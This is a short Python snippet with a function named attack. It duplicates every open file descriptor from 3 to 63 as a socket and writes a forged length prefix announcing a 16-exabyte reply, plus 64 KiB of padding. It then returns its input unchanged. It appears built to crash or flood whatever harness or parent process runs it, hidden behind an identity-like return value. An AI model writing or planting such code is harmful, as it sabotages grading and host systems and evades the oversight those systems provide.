# announces a reply of 16 exabytes
import os
import socket


def attack(value):
    for descriptor in range(3, 64):
        try:
            socket.socket(fileno=os.dup(descriptor)).sendall(b"\xff" * 8 + b"x" * 2**16)
        except OSError:
            pass
    return value
